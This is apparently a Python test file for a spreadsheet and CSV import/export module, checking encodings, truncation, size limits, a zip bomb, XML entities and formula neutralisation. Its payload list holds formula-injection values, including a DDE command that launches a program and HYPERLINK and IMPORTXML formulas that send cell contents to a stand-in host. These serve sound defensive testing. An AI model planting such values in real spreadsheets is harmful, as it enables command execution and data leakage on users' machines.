"""A table is read as it was meant, cell by cell, or refused as a whole with its place."""

import io
import zipfile
from contextlib import suppress
from datetime import date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from config import sheets
from config.sheets import BadSheet, Flaw
from reports import sheets as written

COMPUTED = [
    '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '"=1+1',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
    "00123",
]


def xlsx(*rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def cells(content):
    return [row.cells for row in sheets.read(content, ["nomor"])]


def flaw(content):
    with pytest.raises(BadSheet) as refused:
        sheets.read(content, ["nomor"])
    return refused.value.flaw, refused.value.row


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_csv_is_read_by_whatever_sign_and_encoding(encoding, sign):
    text = f'Nomor{sign}Catatan\r\nR-0001{sign}"Désa {sign} satu"\r\n'

    assert cells(text.encode(encoding)) == [{"nomor": "R-0001", "catatan": f"Désa {sign} satu"}]


def test_names_in_another_encoding_are_refused_not_mangled():
    assert flaw("Nomor;Nama\r\nR-1;Andr\xe9\r\n".encode("cp1252")) == (Flaw.NOT_UTF8, 0)


@pytest.mark.parametrize(
    ("text", "where"),
    [
        pytest.param('Nomor;Catatan\r\nR-0001;"terpo', 0, id="within a cell"),
        pytest.param("Nomor;Catatan;Lain\r\nR-0001;satu;dua\r\nR-00", 3, id="within a row"),
    ],
)
def test_a_file_cut_in_the_middle_is_taken_not_at_all(text, where):
    assert flaw(text.encode()) == (Flaw.CUT_OFF, where)


def test_a_comma_that_splits_a_number_is_noticed():
    assert flaw(b"Nomor,Jumlah\r\nR-0001,1,245\r\n") == (Flaw.TOO_MANY_CELLS, 2)


def test_empty_rows_are_nothing_and_rows_keep_their_numbers():
    assert [row.number for row in sheets.read(b"Nomor;A\r\n;\r\nR-1;x\r\n", ["nomor"])] == [3]


@pytest.mark.parametrize("value", COMPUTED)
def test_what_a_spreadsheet_would_compute_goes_out_and_comes_back_as_text(value):
    headings, rows = ["Nomor", "Catatan"], [["R-0001", value]]
    book, text = written.xlsx(headings, rows), written.csv_(headings, rows)

    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert 'r="B2" s="2" t="inlineStr"' in sheet
    assert not any(cell.startswith(("=", "-", "@", "\t")) for cell in text.decode("utf-8-sig").split(";"))
    assert cells(text)[0]["catatan"] == value
    assert cells(book)[0]["catatan"] == value.strip()


@pytest.mark.parametrize(
    ("value", "meant"),
    [
        (81234567890, "81234567890"),
        (12.0, "12"),
        (1.245, "1,245"),
        (True, "ya"),
        (datetime(2024, 2, 5, 14, 20), "2024-02-05 14.20"),
        (date(2024, 2, 5), "2024-02-05"),
        ("00123", "00123"),
        (None, ""),
    ],
)
def test_a_cell_is_the_text_that_was_meant(value, meant):
    assert cells(xlsx(["Nomor", "X"], ["R-0001", value]))[0]["x"] == meant


def test_a_formula_is_never_computed():
    assert flaw(xlsx(["Nomor", "X"], ["R-0001", "=1+1"])) == (Flaw.FORMULA, 2)


def test_a_number_that_no_longer_shows_what_was_typed_is_refused():
    assert flaw(xlsx(["Nomor", "X"], ["R-0001", 1e17])) == (Flaw.BROKEN_CELL, 2)


def test_a_folder_packed_far_too_small_is_not_unpacked():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)

    assert len(file.getvalue()) < sheets.LARGEST
    assert flaw(file.getvalue()) == (Flaw.TOO_LARGE, 0)


def test_entities_in_the_xml_of_a_sheet_are_not_resolved():
    whole, file = zipfile.ZipFile(io.BytesIO(xlsx(["Nomor"], ["R-1"]))), io.BytesIO()
    with zipfile.ZipFile(file, "w") as changed:
        for part in whole.infolist():
            content = whole.read(part).decode()
            if part.filename.endswith("sheet1.xml"):
                content = '<!DOCTYPE x [<!ENTITY a "bom">]>' + content
            changed.writestr(part.filename, content)

    assert flaw(file.getvalue()) == (Flaw.NO_TABLE, 0)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(b"", Flaw.NO_TABLE, id="nothing"),
        pytest.param(b"Nomor\0;A\r\n", Flaw.NO_TABLE, id="no text"),
        pytest.param(b"PK\x03\x04 broken", Flaw.NO_TABLE, id="a broken folder"),
        pytest.param(b"A;B\r\n1;2\r\n", Flaw.NO_COLUMNS, id="another table"),
        pytest.param(b"Nomor;A;a\r\n1;2;3\r\n", Flaw.TWICE, id="a column twice"),
        pytest.param(b"x" * (sheets.LARGEST + 1), Flaw.TOO_LARGE, id="too many bytes"),
        pytest.param(b"Nomor\r\n" + b"R-1\r\n" * (sheets.ROWS + 1), Flaw.TOO_LARGE, id="too many rows"),
        pytest.param(b"Nomor\r\n" + b"x" * (sheets.SIGNS + 1), Flaw.TOO_LARGE, id="too many signs in a cell"),
    ],
)
def test_what_is_no_such_table_is_refused(content, expected):
    assert flaw(content)[0] is expected


def test_a_sheet_with_one_cell_far_below_is_too_large():
    book = Workbook()
    book.active["A1"], book.active["A1048576"] = "Nomor", "x"
    file = io.BytesIO()
    book.save(file)

    assert flaw(file.getvalue())[0] is Flaw.TOO_LARGE


@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda text: f"Nomor;A\n{text}".encode()))
def test_whatever_is_sent_is_read_or_refused(content):
    with suppress(BadSheet):
        assert all("nomor" in row.cells for row in sheets.read(content, ["nomor"]))
